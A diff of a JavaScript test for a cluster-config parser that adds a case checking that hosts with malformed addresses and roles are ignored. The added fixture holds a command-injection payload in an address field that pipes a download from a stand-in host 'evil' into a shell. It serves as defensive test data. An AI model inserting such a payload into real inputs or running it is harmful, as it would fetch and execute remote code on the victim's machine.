@@ -35,6 +35,9 @@ describe('reading a rendered tree\'s state', () => {
     const tree = new Map([[file('cluster-a'), config('10.33.0.0/16').replace('  weave:\n', '  weave:\n    password: ../../../clusters/shared_password\n')]]);
     expect(hostsIn(tree, 'cluster-a')).toEqual([{ address: '192.0.2.10', role: 'master' }, { address: '192.0.2.11', role: 'worker' }]);
     expect(hostsIn(new Map(), 'cluster-a')).toEqual([]);
+    // Hosts Pharos would refuse never ran; their text (a base's, from a pull request) reaches no command.
+    const odd = config('10.33.0.0/16').replace('hosts:\n', 'hosts:\n  - address: "a> ; curl evil | sh ; <b"\n    role: worker\n  - address: 192.0.2.9\n    role: "<details>"\n');
+    expect(hostsIn(new Map([[file('cluster-a'), odd]]), 'cluster-a')).toEqual([{ address: '192.0.2.10', role: 'master' }, { address: '192.0.2.11', role: 'worker' }]);
     expect(passwordIn(tree, 'cluster-a')).toBe('../../../clusters/shared_password');
   });
 
